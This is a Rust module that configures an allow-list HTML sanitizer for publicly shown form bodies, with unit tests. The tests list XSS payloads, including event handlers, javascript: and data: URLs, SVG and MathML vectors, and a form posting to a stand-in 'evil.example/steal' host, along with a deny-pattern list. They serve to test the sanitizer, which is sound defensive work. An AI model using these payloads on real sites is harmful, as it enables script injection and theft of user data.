//! Form bodies are HTML written by client staff and shown to the public on our origin. They are cleaned on save
//! and again on render: no script, no event handlers, no `javascript:` or `data:` URLs, no SVG/MathML, no frames,
//! no inline styles, and no form `action`/`formaction` (the viewer posts only to our submit endpoint).

use ammonia::Builder;
use std::collections::HashSet;
use std::sync::OnceLock;

fn cleaner() -> &'static Builder<'static> {
    static CLEANER: OnceLock<Builder<'static>> = OnceLock::new();
    CLEANER.get_or_init(|| {
        let tags: HashSet<&str> = [
            "a",
            "b",
            "blockquote",
            "br",
            "button",
            "caption",
            "code",
            "div",
            "em",
            "fieldset",
            "form",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "i",
            "img",
            "input",
            "label",
            "legend",
            "li",
            "ol",
            "option",
            "p",
            "pre",
            "select",
            "small",
            "span",
            "strong",
            "table",
            "tbody",
            "td",
            "textarea",
            "th",
            "thead",
            "tr",
            "u",
            "ul",
        ]
        .into_iter()
        .collect();
        let generic: HashSet<&str> = ["class", "id", "title", "lang", "dir", "aria-label", "role"]
            .into_iter()
            .collect();
        let mut builder = Builder::default();
        builder
            .tags(tags)
            .generic_attributes(generic)
            .tag_attributes(
                [
                    ("a", ["href", "target"].into_iter().collect()),
                    (
                        "img",
                        ["src", "alt", "width", "height"].into_iter().collect(),
                    ),
                    (
                        "input",
                        [
                            "type",
                            "name",
                            "placeholder",
                            "required",
                            "value",
                            "autocomplete",
                            "maxlength",
                        ]
                        .into_iter()
                        .collect(),
                    ),
                    ("button", ["type"].into_iter().collect()),
                    ("label", ["for"].into_iter().collect()),
                    ("select", ["name", "required"].into_iter().collect()),
                    ("option", ["value", "selected"].into_iter().collect()),
                    (
                        "textarea",
                        ["name", "placeholder", "rows", "required"]
                            .into_iter()
                            .collect(),
                    ),
                    ("td", ["colspan", "rowspan"].into_iter().collect()),
                    ("th", ["colspan", "rowspan"].into_iter().collect()),
                ]
                .into_iter()
                .collect(),
            )
            .url_schemes(["http", "https", "mailto"].into_iter().collect())
            .link_rel(Some("noopener noreferrer nofollow"))
            .strip_comments(true);
        builder
    })
}

pub fn clean_html(html: &str) -> String {
    cleaner().clean(html).to_string()
}

/// The body a new form starts with: an e-mail field and a submit button.
pub const DEFAULT_FORM_BODY: &str = "<form>\n  <label for=\"email\">Email</label>\n  \
    <input type=\"email\" id=\"email\" name=\"email\" placeholder=\"you@example.org\" required>\n  \
    <button type=\"submit\">Sign up</button>\n</form>";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn script_and_its_disguises_are_removed() {
        let attacks = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<form action=\"https://evil.example/steal\"><button formaction=\"https://evil.example\">go</button></form>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<input type=\"text\" onfocus=\"alert(1)\" autofocus>",
        ];
        for attack in attacks {
            let cleaned = clean_html(attack).to_lowercase();
            for bad in [
                "<script",
                "onerror",
                "onload",
                "onfocus",
                "javascript:",
                "<svg",
                "action=",
                "<iframe",
                "style=",
                "data:",
                "<math",
            ] {
                assert!(!cleaned.contains(bad), "{attack} → {cleaned}");
            }
        }
    }

    #[test]
    fn an_ordinary_signup_form_survives() {
        let cleaned = clean_html(DEFAULT_FORM_BODY);
        for kept in [
            "<form>",
            "type=\"email\"",
            "name=\"email\"",
            "required",
            "<button type=\"submit\">",
        ] {
            assert!(cleaned.contains(kept), "{kept} missing from {cleaned}");
        }
    }
}
